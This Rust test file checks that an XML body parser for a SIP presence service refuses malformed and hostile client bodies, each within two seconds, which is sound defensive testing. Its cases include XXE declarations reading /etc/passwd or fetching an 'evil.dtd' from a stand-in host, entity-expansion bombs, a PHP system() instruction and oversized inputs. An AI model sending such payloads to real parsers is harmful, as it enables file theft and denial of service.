//! Every body that a client sends x every kind of anomaly of XML, by a table: what no reader may take is refused by
//! every one of them and as what it is, and nothing takes long.

use std::time::{Duration, Instant};

use rapport_msbody::container::{parse_set_members, parse_set_subscribers};
use rapport_msbody::value::parse_device;
use rapport_msbody::{
    BodyError, Fragment, Limits, StateFacts, What, calendar, provisioning, publish, roaming_self, soap,
    subscribe,
};

/// A kind of body: a good one, how it is read, and the numbers in it, each as it stands there. Those that are `loose` are
/// no numbers to the reader: passed on as they are, or left out where they are none.
struct Kind {
    name: &'static str,
    good: &'static str,
    read: fn(&[u8]) -> Result<(), BodyError>,
    numbers: &'static [&'static str],
    loose: &'static [&'static str],
}

fn text(read: impl FnOnce(&str) -> Result<(), BodyError>) -> impl FnOnce(&[u8]) -> Result<(), BodyError> {
    // Values inside other bodies come out of those, which have looked at the encoding.
    |body| match std::str::from_utf8(body) {
        Ok(body) => read(body),
        Err(error) => Err(BodyError { what: What::NotUtf8, at: error.valid_up_to() }),
    }
}

const KINDS: &[Kind] = &[
    Kind {
        name: "publish",
        good: r#"<publish xmlns="urn:p" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><publications uri="sip:a@b"><publication categoryName="state" instance="7" container="2" version="3" expireType="time" expires="60"><state i:type="userState" manual="true"><availability>3500</availability><activity token="x" minAvailability="1" maxAvailability="9"><custom LCID="1033">t</custom></activity></state></publication></publications></publish>"#,
        read: |body| publish::parse(body).map(drop),
        numbers: &[
            "instance=\"7\"",
            "container=\"2\"",
            "version=\"3\"",
            "expires=\"60\"",
            ">3500<",
            "minAvailability=\"1\"",
            "maxAvailability=\"9\"",
        ],
        loose: &["LCID=\"1033\""],
    },
    Kind {
        name: "state",
        good: r#"<state xmlns="urn:s" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="machineState" manual="false" startTime="2009-01-11T19:00:00Z"><availability>3500</availability><endpointLocation/><device>computer</device></state>"#,
        read: |body| text(|body| StateFacts::parse(body).map(drop))(body),
        numbers: &[">3500<"],
        loose: &[],
    },
    Kind {
        name: "device",
        good: r#"<device xmlns="urn:d" endpointId="b7"><capabilities><text capture="true" render="1"/></capabilities><timezone>00:00:00+01:00</timezone><machineName>vm</machineName></device>"#,
        read: |body| text(|body| parse_device(body).map(drop))(body),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "calendarData",
        good: r#"<calendarData xmlns="urn:c" mailboxID="a@b"><freeBusy startTime="2009-12-03T00:00:00Z" granularity="PT15M" encodingVersion="1">Gw==</freeBusy></calendarData>"#,
        read: |body| text(|body| calendar::parse(body).map(drop))(body),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "fragment",
        good: r#"<note xmlns="urn:n"><body type="personal" uri="">At my desk</body></note>"#,
        read: |body| text(|body| Fragment::parse(body).map(drop))(body),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "batchSub",
        good: r#"<batchSub xmlns="urn:b" uri="sip:a@b"><action name="subscribe" id="63"><adhocList><resource uri="sip:c@d"><context/></resource></adhocList><categoryList><category name="state"/></categoryList></action></batchSub>"#,
        read: |body| subscribe::parse(body).map(drop),
        numbers: &[],
        loose: &["id=\"63\""],
    },
    Kind {
        name: "adhoclist",
        good: r#"<adhoclist xmlns="urn:a" uri="sip:a@b"><create><resource uri="sip:c@d"/></create></adhoclist>"#,
        read: |body| subscribe::parse(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "roamingList",
        good: r#"<roamingList xmlns="urn:r"><roaming type="categories"/><roaming type="containers"/></roamingList>"#,
        read: |body| roaming_self::parse(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "setContainerMembers",
        good: r#"<setContainerMembers xmlns="urn:c"><container id="200" version="3"><member action="add" type="user" value="a@b"/></container></setContainerMembers>"#,
        read: |body| parse_set_members(body).map(drop),
        numbers: &["id=\"200\"", "version=\"3\""],
        loose: &[],
    },
    Kind {
        name: "setSubscribers",
        good: r#"<setSubscribers xmlns="urn:s"><subscriber user="a@b" acknowledged="true"/></setSubscribers>"#,
        read: |body| parse_set_subscribers(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "provisioningGroupList",
        good: r#"<provisioningGroupList xmlns="urn:g"><provisioningGroup name="ucPolicy"/></provisioningGroupList>"#,
        read: |body| provisioning::parse(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "setContact",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:setContact><m:displayName>n</m:displayName><m:groups>1 2</m:groups><m:subscribed>true</m:subscribed><m:URI>sip:a@b</m:URI><m:externalURI/><m:deltaNum>9</m:deltaNum></m:setContact></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:deltaNum>9<"],
        loose: &["<m:groups>1 2<"],
    },
    Kind {
        name: "modifyGroup",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:modifyGroup><m:groupID>4</m:groupID><m:name>n</m:name><m:externalURI/><m:deltaNum>9</m:deltaNum></m:modifyGroup></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:groupID>4<", "<m:deltaNum>9<"],
        loose: &[],
    },
    Kind {
        name: "addGroup",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:addGroup><m:groupID/><m:name>n</m:name><m:externalURI/><m:deltaNum>9</m:deltaNum></m:addGroup></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:deltaNum>9<"],
        loose: &[],
    },
    Kind {
        name: "deleteGroup",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:deleteGroup><m:groupID>4</m:groupID><m:deltaNum>9</m:deltaNum></m:deleteGroup></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:groupID>4<", "<m:deltaNum>9<"],
        loose: &[],
    },
    Kind {
        name: "deleteContact",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:deleteContact><m:URI>sip:a@b</m:URI><m:deltaNum>9</m:deltaNum></m:deleteContact></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:deltaNum>9<"],
        loose: &[],
    },
    Kind {
        name: "setPresence",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:setPresence><m:presentity m:uri="a@b"/></m:setPresence></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "a method that nobody knows",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:sing m:loud="1"><m:song>1</m:song></m:sing></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &[],
        loose: &[],
    },
    Kind {
        name: "setACE",
        good: r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:setACE><m:type>USER</m:type><m:mask>a@b</m:mask><m:rights>AA</m:rights><m:deltaNum>9</m:deltaNum></m:setACE></s:Body></s:Envelope>"#,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:deltaNum>9<"],
        loose: &[],
    },
    Kind {
        name: "directorySearch",
        good: r##"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/winrtc/2002/11/sip"><s:Body><m:directorySearch><m:filter m:href="#a"/><m:maxResults>100</m:maxResults></m:directorySearch><m:Array m:id="a"><m:row m:attrib="givenName" m:value="K"/></m:Array></s:Body></s:Envelope>"##,
        read: |body| soap::parse(body).map(drop),
        numbers: &["<m:maxResults>100<"],
        loose: &[],
    },
];

impl Kind {
    /// Reads a body; nothing may take long, however it was made.
    #[expect(clippy::disallowed_methods, reason = "how long a body takes is what is tested")]
    fn read(&self, body: &[u8]) -> Result<(), BodyError> {
        let began = Instant::now();
        let result = (self.read)(body);
        let took = began.elapsed();
        assert!(took < Duration::from_secs(2), "{} of {} bytes took {took:?}", self.name, body.len());
        if let Err(error) = result {
            assert!(error.at <= body.len(), "{}: {error}", self.name);
        }
        result
    }

    #[track_caller]
    fn refuses(&self, body: impl AsRef<[u8]>, what: What, case: &str) {
        let error = self.read(body.as_ref()).expect_err(case);
        assert_eq!(error.what, what, "{}: {case}", self.name);
    }

    /// The good body with `more` in front of its root.
    fn before(&self, more: &str) -> String {
        format!("{more}{}", self.good)
    }

    /// With `more` among the attributes of its root.
    fn attribute(&self, more: &str) -> String {
        let at = self.good.find([' ', '>']).expect("a start tag");
        format!("{}{more}{}", &self.good[..at], &self.good[at..])
    }

    /// With `more` as the first thing inside its root.
    fn inside(&self, more: &str) -> String {
        let at = self.good.find('>').expect("a start tag") + 1;
        format!("{}{more}{}", &self.good[..at], &self.good[at..])
    }
}

#[test]
fn the_bodies_that_the_anomalies_are_made_of_are_good() {
    for kind in KINDS {
        assert_eq!(kind.read(kind.good.as_bytes()), Ok(()), "{}", kind.name);
        for number in kind.numbers.iter().chain(kind.loose) {
            assert_eq!(kind.good.matches(number).count(), 1, "{}: {number}", kind.name);
        }
        // What changes nothing is taken by all.
        for same in [
            kind.before("\u{feff}"),
            kind.before("<?xml version=\"1.0\"?>\r\n"),
            kind.before("<?xml version='1.0' encoding='UTF-8' standalone='no'?><!-- <!DOCTYPE a> -->"),
            kind.inside("<!-- & < > ]]> &x; -->"),
            kind.attribute(" unknown=\"&lt;&#x1F600;&quot;\" xml:lang='de'"),
            kind.attribute(" xmlns:z=\"urn:z\" z:a=\"1\""),
            format!("{}\r\n\t <!-- end -->", kind.good),
        ] {
            assert_eq!(kind.read(same.as_bytes()), Ok(()), "{}: {same}", kind.name);
        }
    }
}

#[test]
fn no_body_has_a_document_type_nor_entities() {
    for kind in KINDS {
        for dtd in [
            "<!DOCTYPE a>",
            "<!DOCTYPE a [<!ENTITY x \"y\">]>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\"> %p;]>",
            "<!DOCTYPE a SYSTEM \"http://192.0.2.1/evil.dtd\">",
            "<!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://192.0.2.1/x.dtd\">",
            "<!DOCTYPE a [<!ATTLIST publication expires CDATA \"0\">]>",
            "<!DOCTYPE a [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&c;&c;\"><!ENTITY c \"x\">]>",
            "<!doctype a>",
        ] {
            kind.refuses(kind.before(dtd), What::Doctype, dtd);
            kind.refuses(kind.before(&format!("<?xml version=\"1.0\"?>{dtd}")), What::Doctype, dtd);
            kind.refuses(kind.inside(dtd), What::Doctype, dtd);
        }
        for entity in ["&x;", "&nbsp;", "&LT;", "&xxe;", "&%p;", "&a.b;"] {
            kind.refuses(kind.inside(entity), What::UnknownEntity, entity);
            kind.refuses(kind.attribute(&format!(" a=\"{entity}\"")), What::UnknownEntity, entity);
        }
        kind.refuses(kind.before("&lt;"), What::Syntax, "a reference before the root");
        kind.refuses(kind.inside("%p;&"), What::Syntax, "half a reference");
        kind.refuses(kind.inside("<!ELEMENT a ANY>"), What::Syntax, "a declaration in the content");
    }
}

#[test]
fn no_body_is_written_in_anything_but_utf_8() {
    for kind in KINDS {
        let utf16 = |big: bool| -> Vec<u8> {
            let unit = |unit: u16| if big { unit.to_be_bytes() } else { unit.to_le_bytes() };
            format!("\u{feff}{}", kind.good).encode_utf16().flat_map(unit).collect()
        };
        kind.refuses(utf16(false), What::NotUtf8, "UTF-16, little end first");
        kind.refuses(utf16(true), What::NotUtf8, "UTF-16, big end first");
        let unmarked: Vec<u8> = kind.good.encode_utf16().flat_map(u16::to_le_bytes).collect();
        kind.refuses(unmarked, What::ForbiddenCharacter, "UTF-16 without a mark");
        let utf32: Vec<u8> = kind.good.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect();
        kind.refuses(utf32, What::ForbiddenCharacter, "UTF-32");
        for encoding in
            ["UTF-16", "UTF-7", "ISO-8859-1", "windows-1252", "US-ASCII", "UTF-32", "EBCDIC-CP-US", "x", ""]
        {
            let declared = format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>");
            kind.refuses(kind.before(&declared), What::Declaration, &declared);
        }
        for declared in ["<?xml version=\"1.1\"?>", "<?xml version=\"2.0\"?>", "<?xml version=\"\"?>"] {
            kind.refuses(kind.before(declared), What::Declaration, declared);
        }
        let late = format!(" <?xml version=\"1.0\"?>{}", kind.good);
        kind.refuses(late, What::Declaration, "a declaration that is not first");
        for octets in
            [&b"\xff"[..], b"\xc0\x80", b"\xc0\xbc", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82"]
        {
            let at = kind.good.find('>').expect("a start tag") + 1;
            let (first, rest) = kind.good.as_bytes().split_at(at);
            kind.refuses([first, octets, rest].concat(), What::NotUtf8, "octets that are no UTF-8");
        }
        kind.refuses(kind.before("\u{feff}\u{feff}"), What::Syntax, "two byte order marks");
        // UTF-7 is ASCII to everybody else, and no element.
        kind.refuses(format!("+ADw-{}", &kind.good[1..]), What::Syntax, "UTF-7");
    }
}

#[test]
fn no_body_holds_what_xml_forbids() {
    for kind in KINDS {
        for c in ['\0', '\u{1}', '\u{8}', '\u{b}', '\u{c}', '\u{1b}', '\u{1f}', '\u{fffe}', '\u{ffff}'] {
            kind.refuses(kind.inside(&c.to_string()), What::ForbiddenCharacter, "written out");
            kind.refuses(kind.attribute(&format!(" a=\"{c}\"")), What::ForbiddenCharacter, "in a value");
            kind.refuses(
                kind.inside(&format!("&#x{:x};", u32::from(c))),
                What::ForbiddenCharacter,
                "a reference",
            );
        }
        for reference in ["&#xD800;", "&#x110000;", "&#4294967295;"] {
            kind.refuses(kind.inside(reference), What::ForbiddenCharacter, reference);
        }
        for reference in
            ["&#;", "&#x;", "&#-1;", "&#+1;", "&#x 1;", "&#4294967296;", "&#18446744073709551616;"]
        {
            kind.refuses(kind.inside(reference), What::Syntax, reference);
        }
        for pi in ["<?x?>", "<?xml-stylesheet href=\"x\"?>", "<?php system('x') ?>"] {
            kind.refuses(kind.before(pi), What::ProcessingInstruction, pi);
            kind.refuses(kind.inside(pi), What::ProcessingInstruction, pi);
        }
        kind.refuses(kind.inside("<!-- a -- b -->"), What::Syntax, "a comment in a comment");
        kind.refuses(kind.inside("]]>"), What::Syntax, "the end of a section");
        kind.refuses(kind.before("<![CDATA[x]]>"), What::Syntax, "a section before the root");
        for open in ["<!-- ", "<![CDATA[", "<?x ", "<!DOCTYPE a ["] {
            assert!(kind.read(kind.inside(open).as_bytes()).is_err(), "{}: {open} does not end", kind.name);
        }
    }
}

#[test]
fn no_element_has_too_many_attributes_or_one_twice() {
    for kind in KINDS {
        let many =
            |count: usize| kind.attribute(&(0..count).map(|n| format!(" a{n}=\"\"")).collect::<String>());
        assert_eq!(kind.read(many(50).as_bytes()), Ok(()), "{}: fifty attributes", kind.name);
        kind.refuses(many(65), What::TooManyAttributes { limit: 64 }, "65 attributes");
        kind.refuses(many(20_000), What::TooManyAttributes { limit: 64 }, "20 000 attributes");
        for twice in [
            " a=\"\" a=\"\"",
            " xmlns:p=\"u\" xmlns:q=\"u\" p:a=\"\" q:a=\"\"",
            " xmlns:p=\"u\" xmlns:p=\"u\"",
        ] {
            kind.refuses(kind.attribute(twice), What::DuplicateAttribute, twice);
        }
        for broken in [" a", " a=", " a=1", " a=\"", " a=\"<\"", " a=\"1\"b=\"2\"", " a='1", " =\"1\""] {
            assert!(kind.read(kind.attribute(broken).as_bytes()).is_err(), "{}: {broken}", kind.name);
        }
        for name in [" 1=\"\"", " a:=\"\"", " :a=\"\"", " a:b:c=\"\"", " -a=\"\"", " a\u{d7}=\"\""] {
            kind.refuses(kind.attribute(name), What::Name, name);
        }
    }
}

#[test]
fn no_element_declares_too_many_namespaces_or_uses_one_that_nobody_declared() {
    for kind in KINDS {
        let many = |count: usize| {
            kind.attribute(&(0..count).map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect::<String>())
        };
        assert_eq!(kind.read(many(12).as_bytes()), Ok(()), "{}: twelve namespaces", kind.name);
        kind.refuses(many(40), What::TooManyNamespaces { limit: 16 }, "40 namespaces");
        let declared: String = (0..16).map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect();
        let nested = kind.inside(&format!("{}{}", format!("<a{declared}>").repeat(5), "</a>".repeat(5)));
        assert!(kind.read(nested.as_bytes()).expect_err("nested").is_limit(), "{}: nested", kind.name);
        for unbound in [" p:a=\"\"", " xmln:p=\"\"", " XMLNS:p=\"u\""] {
            kind.refuses(kind.attribute(unbound), What::UndeclaredPrefix, unbound);
        }
        kind.refuses(kind.inside("<p:a/>"), What::UndeclaredPrefix, "an element");
        kind.refuses(kind.inside("<a xmlns:p='u'/><p:a/>"), What::UndeclaredPrefix, "declared beside");
        for forbidden in [
            " xmlns:p=\"\"",
            " xmlns:xml=\"urn:x\"",
            " xmlns:xmlns=\"urn:x\"",
            " xmlns:p=\"http://www.w3.org/XML/1998/namespace\"",
        ] {
            kind.refuses(kind.attribute(forbidden), What::NamespaceDeclaration, forbidden);
        }
    }
}

#[test]
fn no_body_is_deeper_longer_or_richer_than_the_limits() {
    let Limits { body, depth, elements, text, .. } = Limits::WIRE;
    for kind in KINDS {
        let deep = |depth: usize| kind.inside(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)));
        kind.refuses(deep(depth), What::TooDeep { limit: depth }, "one too deep");
        kind.refuses(kind.inside(&"<a>".repeat(60_000)), What::TooDeep { limit: depth }, "60 000 deep");
        let rich = kind.inside(&format!("<a>{}</a>", "<b/>".repeat(elements)));
        kind.refuses(rich, What::TooManyElements { limit: elements }, "10 000 elements");
        let long = "x".repeat(text + 1);
        kind.refuses(kind.attribute(&format!(" a=\"{long}\"")), What::TextTooLong { limit: text }, "a value");
        kind.refuses(kind.inside(&"x".repeat(body)), What::TooLarge { limit: body }, "a body");
        // As costly as can be within the limits: names, references and sections that all must be looked at.
        let room = body - kind.good.len() - 16;
        for unit in ["&amp;", "<![CDATA[]]>", "<!---->", "&#65;", "]]", "\r\n", "x ", "\u{1f600}"] {
            let result =
                kind.read(kind.inside(&format!("<a>{}</a>", unit.repeat(room / unit.len()))).as_bytes());
            let _ = result.map_err(|error| assert!(!error.to_string().is_empty()));
        }
        let names = "n".repeat(room / 2 - 8);
        let _ = kind.read(kind.inside(&format!("<{names}></{names}>")).as_bytes());
    }
}

#[test]
fn a_body_has_one_root_of_its_own_name() {
    for kind in KINDS {
        kind.refuses("", What::Truncated, "nothing");
        kind.refuses(" \r\n\t", What::Truncated, "blanks");
        kind.refuses("<!-- -->", What::Truncated, "a comment");
        kind.refuses(format!("{0}{0}", kind.good), What::Trailing, "twice");
        kind.refuses(format!("{}x", kind.good), What::Trailing, "text behind");
        kind.refuses(format!("{}&amp;", kind.good), What::Trailing, "a reference behind");
        kind.refuses(format!("x{}", kind.good), What::Syntax, "text in front");
        kind.refuses(format!("{}</a>", kind.good), What::Syntax, "an end behind");
        if kind.name != "fragment" {
            for other in ["<other/>", "<PUBLISH/>", "<x:y xmlns:x='u'/>"] {
                let error = kind.read(other.as_bytes()).expect_err(other);
                assert!(matches!(error.what, What::Unexpected { .. }), "{}: {error}", kind.name);
            }
        }
        for end in 0..kind.good.len() {
            assert!(kind.read(&kind.good.as_bytes()[..end]).is_err(), "{} cut to {end}", kind.name);
        }
    }
}

/// What a number may not be.
const NO_NUMBERS: [&str; 18] = [
    "",
    " ",
    "-1",
    "-0x1",
    "0x10",
    "1.5",
    "1e3",
    "1 2",
    "1,000",
    "4294967296",
    "18446744073709551615",
    "18446744073709551616",
    "-9223372036854775809",
    "99999999999999999999999999999999",
    "\u{661}\u{662}",
    "NaN",
    "1;",
    "&#48;x",
];

#[test]
fn a_number_is_one_of_thirty_two_bits() {
    for kind in KINDS {
        for number in kind.numbers {
            let digits = number.find(|c: char| c.is_ascii_digit()).expect("a number");
            let (before, rest) = number.split_at(digits);
            let after = rest.trim_start_matches(|c: char| c.is_ascii_digit());
            for value in NO_NUMBERS {
                // An empty group id is what some clients send with addGroup.
                let body = kind.good.replace(number, &format!("{before}{value}{after}"));
                assert!(kind.read(body.as_bytes()).is_err(), "{}: {number} is {value:?}", kind.name);
            }
            for value in ["0", "00007", " 7 ", "4294967295"] {
                let body = kind.good.replace(number, &format!("{before}{value}{after}"));
                let result = kind.read(body.as_bytes());
                // Containers have bounds of their own.
                let bounded = number.starts_with("container") || number.starts_with("id=");
                assert!(result.is_ok() || bounded, "{}: {number} is {value:?}: {result:?}", kind.name);
            }
        }
    }
}

#[test]
fn what_only_looks_like_a_number_is_passed_on_or_left_out() {
    for kind in KINDS {
        for number in kind.loose {
            let digits = number.find(|c: char| c.is_ascii_digit()).expect("a number");
            let end = number.rfind(|c: char| c.is_ascii_digit()).expect("a number") + 1;
            for value in NO_NUMBERS.into_iter().chain(["4294967295", "x", "00007"]) {
                let body =
                    kind.good.replace(number, &format!("{}{value}{}", &number[..digits], &number[end..]));
                assert_eq!(kind.read(body.as_bytes()), Ok(()), "{}: {number} is {value:?}", kind.name);
            }
        }
    }
    let groups_of = |groups: &str| {
        let setting = KINDS.iter().find(|kind| kind.name == "setContact").expect("a kind");
        match soap::parse(setting.good.replace(">1 2<", &format!(">{groups}<")).as_bytes()) {
            Ok(soap::ContactMethod::SetContact(set)) => set.groups,
            other => panic!("{groups}: {other:?}"),
        }
    };
    assert_eq!(groups_of("1 2"), [1, 2]);
    assert_eq!(groups_of("x 1 -2 4294967296 0x3 18446744073709551616 4294967295 1"), [1, u32::MAX]);
}

/// Where each attribute and each element stands in a good body, as text.
fn parts(good: &str) -> (Vec<&str>, Vec<&str>) {
    let mut attributes = Vec::new();
    let mut rest = good;
    while let Some(at) = rest.find("=\"") {
        let start = rest[..at].rfind(' ').expect("a blank in front of a name");
        let end = at + 2 + rest[at + 2..].find('"').expect("a closing quote") + 1;
        attributes.push(&rest[start..end]);
        rest = &rest[end..];
    }
    let mut elements = Vec::new();
    for (at, _) in good.match_indices('<').filter(|(at, _)| !good[*at..].starts_with("</")) {
        let tag_end = at + good[at..].find('>').expect("a tag that ends") + 1;
        let name = good[at + 1..].split([' ', '>', '/']).next().expect("a name");
        let end = if good[..tag_end].ends_with("/>") {
            tag_end
        } else {
            let close = format!("</{name}>");
            tag_end + good[tag_end..].find(&close).expect("an end") + close.len()
        };
        elements.push(&good[at..end]);
    }
    (attributes, elements)
}

#[test]
fn whatever_is_missing_empty_doubled_or_huge_gives_a_value_or_an_error() {
    let huge = "x".repeat(60_000);
    for kind in KINDS {
        let (attributes, elements) = parts(kind.good);
        assert!(!attributes.is_empty() && !elements.is_empty());
        for attribute in attributes {
            let name = attribute.split('=').next().expect("a name");
            let doubled = format!("{attribute}{attribute}");
            kind.refuses(kind.good.replacen(attribute, &doubled, 1), What::DuplicateAttribute, name);
            for value in ["", " ", "\u{fffd}", "&quot;&#13;&#10;", "sip:", "true false", huge.as_str()] {
                let _ =
                    kind.read(kind.good.replacen(attribute, &format!("{name}=\"{value}\""), 1).as_bytes());
            }
            let _ = kind.read(kind.good.replacen(attribute, "", 1).as_bytes());
        }
        for element in elements {
            let name = element[1..].split([' ', '>', '/']).next().expect("a name");
            for instead in [
                String::new(),
                format!("<{name}/>"),
                format!("{element}{element}"),
                element.repeat(300),
                format!("<{name}>{huge}</{name}>"),
                format!("<{name}><![CDATA[{element}]]></{name}>"),
                format!("<{name}>{element}</{name}>"),
                format!("<other>{element}</other>"),
            ] {
                let _ = kind.read(kind.good.replacen(element, &instead, 1).as_bytes());
            }
        }
    }
}
